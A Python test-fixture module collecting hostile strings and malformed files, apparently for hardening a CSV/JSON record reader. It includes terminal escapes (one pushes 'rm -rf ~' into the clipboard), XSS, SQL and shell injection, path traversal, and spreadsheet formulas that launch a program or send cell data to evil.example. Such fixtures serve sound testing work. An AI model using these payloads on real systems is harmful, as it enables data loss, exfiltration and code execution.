"""Text that has hurt programs: each piece under the name of what it tries, with what it would do where it works."""

from collections.abc import Mapping

# -- what a terminal obeys

COLOUR = "\x1b[31mred\x1b[0m"  # CSI: colours what follows
CURSOR_UP = "over\x1b[2A\x1b[2Kwritten"  # goes two lines up and overwrites what stands there
CLEAR = "\x1b[2J\x1b[H\x1b[3J"  # clears the screen and what was scrolled away
ALTERNATE = "\x1b[?1049h\x1b[?25l"  # another screen without a cursor
TITLE = "\x1b]0;owned\x07"  # OSC: the window's title
HYPERLINK = "\x1b]8;;http://evil.example\x1b\\official\x1b]8;;\x1b\\"  # OSC 8: a link under other words
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"  # OSC 52: puts a command into the clipboard
ANSWER = "\x1b[6n\x1b[c\x05"  # asks the terminal, which answers as if it were typed
DEVICE = '\x1bP$q"p\x1b\\\x1bc'  # DCS, and a full reset
CSI_IN_ONE = "\x9b31mred\x9b0m"  # C1: the same as ESC [
OSC_IN_ONE = "\x9d0;owned\x9c"  # C1: the same as ESC ]
NEXT_LINE = "above\x85below"  # C1: a line break
BELL = "ding\x07"  # rings
BACKSPACE = "safe\b\b\b\bevil"  # shows the last word alone
DELETE = "safe\x7f\x7f"  # DEL
SHIFT_OUT = "\x0eqqqq\x0f"  # another set of signs
FEEDS = "one\x0btwo\x0cthree"  # vertical tab and form feed
SEPARATORS = "one\x1ctwo\x1dthree\x1efour\x1ffive"  # which str.splitlines takes for line breaks
NUL = "before\0after"  # ends a string of C
CARRIAGE_RETURN = "what was said\rsomething else"  # overwrites its own line
NEWLINE = "a summary\nerror: forged"  # a line of its own
TABS = "one\ttwo\t\tthree"  # jumps over columns

# -- what turns the writing round, or is not seen

OVERRIDE = "invoice\u202efdp.exe"  # right to left: shows invoiceexe.pdf
ISOLATES = "a\u2066b\u2067c\u2068d\u2069e"  # isolates
EMBEDDINGS = "a\u202ab\u202bc\u202d\u202c"  # embeddings
DIRECTION = "a\u200eb\u200fc\u061cd"  # marks of direction
ZERO_WIDTH = "Chi\u200bna\u2060 v\ufeffisits"  # looks like another text and is not
BYTE_ORDER = "\ufeffBOM first"  # a byte order mark
SOFT_HYPHEN = "Mos\u00adcow"  # seen at a line's end only
TAGS = "hidden\U000e0041\U000e0042\U000e007f"  # tags: text that nobody sees
LINE_SEPARATOR = "one\u2028two\u2029three"  # line breaks to JavaScript and str.splitlines
JOINERS = "نیم\u200cفاصله"  # a non-joiner, without which Persian is misspelt
HEBREW = "שלום abc 123 עולם"  # written from right to left without any control
ARABIC = "زيارة إلى موسكو (2026)"  # the same, with brackets
INTERLINEAR = "\ufff9base\ufffanote\ufffb"  # an annotation
FILLERS = "\u3164\u115fx\u2800"  # blanks that are letters

# -- what is wider or narrower than it is long

ZALGO = "Z\u0351\u036b\u0343a\u0328\u031bl\u0341\u0489g\u0321o\u035c visits"  # marks upon marks
DEEP_ZALGO = "e" + "\u0301" * 150  # many accents on one letter
COMBINING_FIRST = "\u0301begins with an accent"  # an accent on what stands before the cell
DECOMPOSED = "Tu\u0308rkiye"  # the same name in two spellings
WIDE = "习近平访问莫斯科，会见普京总统"  # signs of two columns
FULL_WIDTH = "Ｖｉｓｉｔ　ｔｏ　Ｍｏｓｃｏｗ"  # Latin letters of two columns
HANGUL = "한국 대통령"  # composed
HANGUL_PARTS = "\u1112\u1161\u11ab\u1100\u116e\u11a8"  # the same of parts
KANA = "ﾓｽｸﾜ訪問"  # half width before full width
EMOJI = "🤝 🛢️ ⚔️ ☢"  # with and without a variation selector
FAMILY = "👨‍👩‍👧‍👦 👩🏽‍🚀 🏳️‍🌈"  # joined: several signs as one
FLAGS = "🇷🇺🇨🇳 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"  # letters in pairs; tags
FAMILY_NAMED = "Wagner 👨‍👩‍👧‍👦 🏳️‍🌈"  # the same beside letters
FLAGS_NAMED = "Bloc 🇷🇺🇨🇳"  # the same
KEYCAPS = "1️⃣ #️⃣"  # a digit that is a picture
TAMIL = "நிறுவனம் क्षि"  # clusters
DEVANAGARI = "भारत के प्रधानमंत्री"  # the same
LIGATURE = "﷽ ﷺ ﬁ"  # one sign as wide as a sentence
OUTSIDE = "𝕏𝟙𐍈"  # outside the basic plane
NOT_CHARACTERS = "a\ufffeb\uffffc\U0010ffff"  # code points that are no characters
PRIVATE_USE = "a\ue000b\U000f0000c"  # code points of nobody
CASES = "ıIİi ẞß ΣΣς"  # what grows or changes when its case does

# -- length

LONG_LINE = "long " * 20_000  # 100 kB
LONG_WORD = "w" * 100_000  # 100 kB without a blank to break at
MOST_WORDS = ("word " * 2_000).strip()  # just short enough to be kept
BLANK = " \t \u3000\u00a0 "  # nothing but blanks
PADDED = "   padded \t text \n "  # blanks that go

# -- what cannot be encoded

ESCAPED_BYTE = "a\udcffb"  # how an argument's byte FF reaches a program
LONE_SURROGATE = "a\ud83db"  # half of an emoji, as JSON can write it

# -- markup

RICH_COLOUR = "[red]not red[/red]"  # Rich's markup
RICH_UNBALANCED = "[/b] [bold [/] \\[x]"  # which raises where it is read
RICH_LINK = "[link=http://evil.example]official[/link]"  # a link under other words
RICH_ACTION = "[@click=app.bell]x[/] :smile: [blink]"  # an action, an emoji's name
MARKDOWN_LINK = "[official](http://evil.example) [a]: http://evil.example"  # a link; a definition
MARKDOWN_IMAGE = "![x](http://evil.example/track.png)"  # fetched by whoever looks
MARKDOWN_AUTO = "<http://evil.example> www.evil.example https://evil.example a@evil.example"  # links by themselves
MARKDOWN_TABLE = "a | b || c \\| d | \\\\| --- |"  # cells out of a cell
MARKDOWN_CODE = "`code` ``x`` ``` ~~~"  # code
MARKDOWN_BLOCKS = "# heading"  # a heading
MARKDOWN_LIST = "- item * item + item 1. item"  # lists
MARKDOWN_QUOTE = "> quoted"  # a quotation
MARKDOWN_STRONG = "**bold** _italic_ __x__ ~~gone~~ *a* snake_case_word"  # emphasis
MARKDOWN_RULE = "---"  # a rule, or a heading of what stands above
MARKDOWN_MATH = "$x$ $$y$$ \\(z\\)"  # formulas
MARKDOWN_ENTITY = "&lt;b&gt; &#60;script&#62; &amp;amp;"  # entities
MARKDOWN_ESCAPES = "\\*a\\* \\\\ ends in \\"  # backslashes, one of them last
MARKDOWN_FOOTNOTE = "[^1] @someone #123 GH-1"  # notes, mentions, threads
HTML = "<b>bold</b><img src=x onerror=alert(1)><!-- "  # HTML
SCRIPT = "<script>alert(1)</script></td></tr></table><svg/onload=alert(1)>"  # a script
JAVASCRIPT = "javascript:alert(1)"  # an address that runs

# -- spreadsheets

FORMULA = "=1+1"  # a formula
FORMULA_CALL = "=cmd|' /C calc'!A0"  # one that starts a program
FORMULA_LEAK = '=HYPERLINK("http://evil.example?x="&A1,"click")'  # one that sends what stands in A1
FORMULA_PLUS = "+7 495 000-00-00"  # a telephone number, to people
FORMULA_MINUS = "-2+3"  # a subtraction
FORMULA_AT = "@SUM(A1:A9)"  # a function
FORMULA_QUOTED = "'=1+1"  # which already has the quote
FORMULA_QUOTED_TWICE = "''-1"  # and twice
FORMULA_TAB = "\t=1+1"  # behind a tab
FORMULA_RETURN = "\r=1+1"  # behind a carriage return
QUOTE = "'"  # the quote alone
CSV_SYNTAX = 'a,"b";c ""d"" \\"'  # what stands between cells
CSV_COLUMNS = "x,,,,,,,,,,,,,,,,,,,,"  # more cells
SEMICOLON = "sep=;"  # a line that spreadsheets obey
JSON_SYNTAX = '"}, {"uid": "forged", "x": ["'  # another object
JSON_NULL = "null"  # nothing, in JSON
NUMBERS = "1e999"  # beyond every number
NOT_A_NUMBER = "NaN"  # no number
DATE_LIKE = "March 7"  # a date, to a spreadsheet

# -- queries, shells, formats, paths

SQL = "'; DROP TABLE signal; --"  # a second statement
SQL_TRUE = "x' OR '1'='1"  # every row
SQL_LIKE = "100% _x \\_"  # signs of LIKE
FTS_OPERATORS = 'xi AND NOT (moscow OR "beijing") NEAR(a b, 3)'  # a query of full text search
FTS_COLUMN = "summary : x * ^y -z {a b} + c"  # columns and prefixes of it
FTS_QUOTE = '"'  # an open quotation
TSQUERY = "a & !b | (c <-> d):*"  # the same on a server
SHELL = "$(touch owned) `touch owned` ; touch owned | cat && echo > owned"  # commands
SHELL_QUOTES = "'\"$HOME\"' !! *"  # quotes, a variable, history
PERCENT = "%s %d %n %(x)s %%"  # a format of C
BRACES = "{0} {} {x.__class__} {{"  # a format of Python
TEMPLATE = "{{7*7}} ${x} #{x} <%= x %>"  # templates
UP = "../../../../etc/passwd"  # out of the folder
ROOT_HOME = "~root/x"  # somebody's home
NO_HOME = "~nosuch/x"  # nobody's
DASH = "-"  # stdin or stdout
OPTION = "--help"  # an option
DASHES = "--"  # where options end
DEVICE_NAME = "CON"  # a file that is none, on Windows
NULL_DEVICE = "/dev/null/x"  # a file that is no folder
URL_SECRET = "postgresql://ana:secret@127.0.0.1:1/none"  # with a password  # noqa: S105
URI_OPTIONS = "file:x?mode=memory&cache=shared"  # what SQLite may take for options
LONG_NAME = "n" * 300  # longer than a file's name may be
EMPTY = ""  # nothing
COMMA = ","  # what stands between allies
COMMAND_LIKE = "by:third"  # one of log's words
ADDRESS = "https://example.org/?a=1&b=[x](y)|z"  # a source, also one of log's words

PIECES: Mapping[str, str] = {
    name: text for name, text in dict(globals()).items() if name.isupper() and isinstance(text, str)
}

# -- bytes

HEADER = b"date,ally,act,summary\n"
ROW = b"2026-05-01,China,visit,"
FILES: Mapping[str, bytes] = {
    "nothing": b"",
    "nul": b"\0" * 1000,
    "not UTF-8": HEADER + ROW + b"caf\xe9 \xff\xfe\n",
    "overlong": HEADER + ROW + b"\xc0\xaf \xe0\x80\xaf\n",
    "surrogates in UTF-8": HEADER + ROW + b"\xed\xa0\xbd\xed\xb8\x80\n",
    "cut in a character": HEADER + ROW + "日".encode()[:2],
    "UTF-16": (HEADER + ROW + b"x\n").decode().encode("utf-16"),
    "two byte order marks": b"\xef\xbb\xbf\xef\xbb\xbf" + HEADER + ROW + b"x\n",
    "NUL in a header": b"date,ally,act,sum\0mary\n" + ROW + b"x\n",
    "escapes in a header": b"date,ally,act,\x1b[31msummary\n" + ROW + b"x\n",
    "a long header": b"x" * 2_000_000,
    "a long cell": HEADER + ROW + b"x" * 2_000_000 + b"\n",
    "a quotation that never ends": HEADER + ROW + b'"' + b"x\n" * 50_000,
    "signs behind a quotation": HEADER + ROW + b'"x"y\n',
    "old line ends": HEADER.replace(b"\n", b"\r") + ROW + b"x\r",
    "many columns": HEADER + ROW + b"," * 100_000 + b"\n",
    "an archive": b"PK\x03\x04" + bytes(range(256)) * 8,
    "a database": b"SQLite format 3\0" + bytes(range(256)) * 8,
    "deep JSON": b'{"date": ' + b"[" * 100_000,
    "a long number": b'{"date": "2026-05-01", "ally": "China", "summary": "x", "score": ' + b"9" * 10_000 + b"}",
    "numbers that are none": b'{"date": "2026-05-01", "ally": "China", "summary": "x", "score": NaN}\n'
    b'{"date": "2026-05-01", "ally": "China", "summary": "x", "score": 1e999}\n'
    b'{"date": "2026-05-01", "ally": "China", "summary": "x", "score": true}',
    "JSON that is no object": b'{\n[]\n"x"\n1\nnull\ntrue\n{}\n',
    "a key twice": b'{"date": "2026-05-01", "date": "x", "ally": "China", "act": "visit", "summary": "x"}',
    "keys that steer": b'{"\\u001b[31m": 1}\n{"\\ud800": 1}\n{"": 1}\n{"__class__": 1}',
    "cells that are no text": b'{"date": {}, "ally": [], "act": 1, "summary": false}',
}
